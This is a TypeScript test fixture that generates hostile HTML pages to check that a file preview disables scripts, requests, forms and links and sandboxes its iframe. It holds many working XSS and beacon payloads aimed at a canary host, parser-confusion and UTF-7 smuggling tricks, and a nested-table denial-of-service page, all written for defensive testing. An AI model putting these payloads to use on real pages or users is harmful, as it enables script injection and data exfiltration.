import { expect } from '../servers.ts'
import type { HostileFile, HostileFiles } from './HostileFile.ts'
import { payload } from './payload.ts'

const OFF = /Scripts, requests, forms and links of this page are switched off/
const WITH_SCRIPTS = /switched off. It has \d+ scripts?: what a script would draw/

/** Pages that run, ask for, send and lead to something in every way that HTML has. */
export const hostileHtml: HostileFiles = (canary) => {
  const run = payload(canary)
  const { host } = new URL(canary)
  return [
    page(
      'script.html',
      `<script>${run}</script><script src="${canary}/a.js"></script>`,
      WITH_SCRIPTS,
    ),
    page(
      'modules.html',
      `<script type="importmap">{"imports":{"a":"${canary}/a.js"}}</script>` +
        `<script type="module">import 'a';${run}</script><script type="speculationrules">` +
        `{"prefetch":[{"urls":["${canary}/next"]}],"prerender":[{"urls":["${canary}/next"]}]}</script>`,
      WITH_SCRIPTS,
    ),
    page(
      'handlers.html',
      `<img src=x onerror="${run}"><body onload="${run}"><details open ontoggle="${run}">d</details>` +
        `<input autofocus onfocus="${run}"><svg onload="${run}"></svg><video><source onerror="${run}"></video>` +
        `<p style="animation:spin 1ms" onanimationstart="${run}">p</p><style>@keyframes spin{}</style>`,
    ),
    page('refresh.html', `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`),
    page(
      'frames.html',
      `<iframe srcdoc="<script>${run}</script>"></iframe><iframe src="${canary}/frame"></iframe>` +
        `<iframe src="javascript:${run}"></iframe><object data="${canary}/object"></object>` +
        `<embed src="${canary}/embed"><portal src="${canary}/portal"></portal>` +
        `<fencedframe src="${canary}/fenced"></fencedframe>`,
    ),
    page(
      'form.html',
      `<form id=f action="${canary}/form" method=post><input name=a value=b><button autofocus>go</button></form>` +
        `<button form=f formaction="${canary}/formaction">go</button><script>f.submit()</script>`,
      WITH_SCRIPTS,
    ),
    page(
      'base.html',
      `<base href="${canary}/base/"><img src="relative.png"><a href="next">next</a>`,
    ),
    {
      path: 'html/links.html',
      content: `<h1>Report</h1><a id=a href="javascript:${run}">one</a> <a href="${canary}/link" target=_top ping="${canary}/ping">two</a>`,
      sight: async (preview) => {
        const frame = preview.frameLocator('iframe')
        await frame.getByText('one').click()
        await frame.getByText('two').click()
        await expect(preview).toContainText(OFF)
      },
    },
    page(
      'connections.html',
      [
        'preconnect',
        'dns-prefetch',
        'prefetch',
        'preload',
        'modulepreload',
        'stylesheet',
        'icon',
        'manifest',
      ]
        .map((rel) => `<link rel="${rel}" as="script" href="//${host}/${rel}">`)
        .join(''),
    ),
    page(
      'beacons.html',
      `<style>@import "${canary}/a.css";@font-face{font-family:f;src:url(${canary}/f.woff)}` +
        `body{background:url(${canary}/b.png);font-family:f;cursor:url(${canary}/c.cur),auto}` +
        `p::after{content:url(${canary}/d.png)}</style><p style="list-style:url(${canary}/e.png)">p</p>`,
    ),
    page(
      'media.html',
      `<img src="${canary}/1" srcset="${canary}/2 2x" lowsrc="${canary}/3"><picture><source srcset="${canary}/4"><img></picture>` +
        `<video poster="${canary}/5" src="${canary}/6" autoplay></video><audio src="${canary}/7" autoplay></audio>` +
        `<video><track default src="${canary}/8"></video><input type=image src="${canary}/9">` +
        `<table background="${canary}/10"><tr><td background="${canary}/11">t</table><image src="${canary}/12">` +
        `<svg><image href="${canary}/13"/><use href="${canary}/14#a"/><feImage href="${canary}/15"/></svg>`,
    ),
    page(
      'webrtc.html',
      `<script>const c=new RTCPeerConnection({iceServers:[{urls:'stun:${host}'}]});` +
        `c.createDataChannel('a');c.createOffer().then(o=>c.setLocalDescription(o))</script>`,
      WITH_SCRIPTS,
    ),
    page(
      'workers.html',
      `<script>new Worker('${canary}/w.js');navigator.serviceWorker.register('/w.js');` +
        `new WebSocket('ws://${host}');navigator.sendBeacon('${canary}/beacon');open('${canary}/open');alert(1)</script>`,
      WITH_SCRIPTS,
    ),
    // Our own renaming of elements must not be what lets something out.
    page(
      'closes-early.html',
      `<script></xmp><img src=x onerror="${run}"><link rel=preconnect href="//${host}"></script>` +
        `<xmp><script>${run}</script></xmp><textarea></xmp><script>${run}</script></textarea>` +
        `<title></title><script>${run}</script><!--><script>${run}</script>--><style></xmp></style><script>${run}</script>`,
      WITH_SCRIPTS,
    ),
    page(
      'odd-tags.html',
      `<scr\0ipt>${run}</scr\0ipt><\0script>${run}</script><script\0>${run}</script\0><scr<script>ipt>${run}</script>` +
        `<SCRIPT/x>${run}</SCRIPT><script\f>${run}</script\f><ſcript>${run}</ſcript><lin\u212a rel=preconnect href="//${host}">` +
        `<svg><script>${run}</script><![CDATA[<script>${run}</script>]]></svg><math><mtext><table><mglyph><style><!--</style>` +
        `<img title="--&gt;&lt;img src=x onerror=${run}&gt;">`,
    ),
    // A decoder of UTF-7 would see scripts where this one sees none; UTF-16 is decoded before they are looked for.
    page('utf7.html', `<meta charset="utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4-`),
    {
      path: 'html/utf16.html',
      content: Buffer.from(`\ufeff<h1>Report</h1><script>${run}</script>`, 'utf16le'),
      sight: WITH_SCRIPTS,
    },
    {
      path: 'html/nested-tables.html',
      content: '<table><tr><td>'.repeat(1_300_000),
      sight: OFF,
    },
    {
      path: 'html/too-large.html',
      content: `<script>${run}</script>`.padEnd(20_000_001),
      sight: /Files of more than 20(\.0)? MB are not laid out here/,
    },
  ]
}

const page = (name: string, body: string, says: RegExp = OFF): HostileFile => ({
  path: `html/${name}`,
  content: `<!doctype html><html><head><title>t</title></head><body>${body}<h1>Report</h1></body></html>`,
  sight: async (preview) => {
    await expect(preview).toContainText(says)
    await expect(preview.locator('iframe')).toHaveAttribute('sandbox', '')
  },
})
